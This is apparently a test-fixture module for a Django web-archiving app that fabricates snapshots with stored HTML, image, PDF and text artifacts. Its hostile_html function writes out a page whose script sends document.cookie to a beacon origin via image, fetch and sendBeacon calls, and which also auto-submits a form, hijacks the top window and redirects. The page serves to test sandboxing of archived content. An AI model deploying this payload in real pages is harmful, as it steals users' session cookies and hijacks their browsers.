"""Snapshots made by hand: rows marked succeeded and artifact files written to default_storage.

The capture engine has its own tests; sharing and viewing only need realistic stored artifacts,
including an archived page that tries everything a hostile page would.
"""

from __future__ import annotations

import io

from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.utils import timezone
from PIL import Image

from accounts.models import User
from snapshots.links import services
from snapshots.models import Link, Snapshot


def hostile_html(beacon_origin: str) -> str:
    """An archived page that tries to read cookies, phone home, submit a form and take the top window."""
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>敌意页面</title>
<link rel="stylesheet" href="{beacon_origin}/style.css">
<script src="{beacon_origin}/tracker.js"></script>
<style>body{{font-family:sans-serif}} .bg{{background:url({beacon_origin}/bg.png)}}</style>
</head><body class="bg">
<h1 id="heading">2025年统计报告</h1>
<p id="leak">untouched</p>
<table><tr><th>项目</th><th>数值</th></tr><tr><td>GDP</td><td>1,234.5</td></tr></table>
<img src="{beacon_origin}/x.png" alt="remote">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">
<iframe src="{beacon_origin}/frame.html"></iframe>
<form id="f" action="{beacon_origin}/submit" method="post"><input name="q" value="1"></form>
<script>
document.getElementById('leak').textContent = 'cookie:' + document.cookie;
document.title = 'pwned ' + document.cookie;
new Image().src = '{beacon_origin}/beacon?c=' + encodeURIComponent(document.cookie);
fetch('{beacon_origin}/fetch?c=' + encodeURIComponent(document.cookie)).catch(function(){{}});
navigator.sendBeacon && navigator.sendBeacon('{beacon_origin}/sendbeacon', document.cookie);
try {{ top.location = '{beacon_origin}/redirect'; }} catch (e) {{}}
document.getElementById('f').submit();
</script>
<img src="x" onerror="new Image().src='{beacon_origin}/onerror'">
<meta http-equiv="refresh" content="0;url={beacon_origin}/refresh">
</body></html>"""


PLAIN_HTML = """<!doctype html><html><head><meta charset="utf-8"><title>{title}</title></head>
<body><h1>{title}</h1><table><tr><th>指标</th><th>2025</th></tr><tr><td>财政收入</td><td>8,765</td></tr></table>
</body></html>"""


def image_bytes(fmt: str, color: tuple[int, int, int], size: tuple[int, int] = (320, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, fmt)
    return buffer.getvalue()


def snapshot_with_artifacts(link: Link, *, html: str | None = None, title: str = "") -> Snapshot:
    """A succeeded snapshot with html, thumbnail (WebP), screenshot (PNG), PDF and text artifacts."""
    title = title or link.title or "报告"
    snapshot = Snapshot.objects.create(
        link=link, status=Snapshot.Status.SUCCEEDED, title=title, final_url=link.url, finished=timezone.now()
    )
    prefix = f"snapshots/test/{link.pk}/{snapshot.pk}"
    files = {
        "html": ("page.html", (html or PLAIN_HTML.format(title=title)).encode()),
        "thumbnail": ("thumb.webp", image_bytes("WEBP", (31, 111, 235))),
        "screenshot": ("screenshot.png", image_bytes("PNG", (240, 240, 230), (800, 1200))),
        "pdf": ("page.pdf", image_bytes("PDF", (255, 255, 255))),
        "text": ("page.txt", f"{title}\n财政收入 8,765".encode()),
    }
    snapshot.artifacts = {
        kind: default_storage.save(f"{prefix}/{name}", ContentFile(data)) for kind, (name, data) in files.items()
    }
    snapshot.save(update_fields=["artifacts"])
    return snapshot


def shared_link(owner: User, url: str, *, tags: tuple[str, ...] = ("报告",), title: str = "", notes: str = "") -> Link:
    """A link saved through the service (no capture queued) with one fabricated snapshot."""
    link = services.link_create(owner=owner, url=url, tags=tags, title=title, notes=notes, capture=False)
    snapshot_with_artifacts(link)
    return link
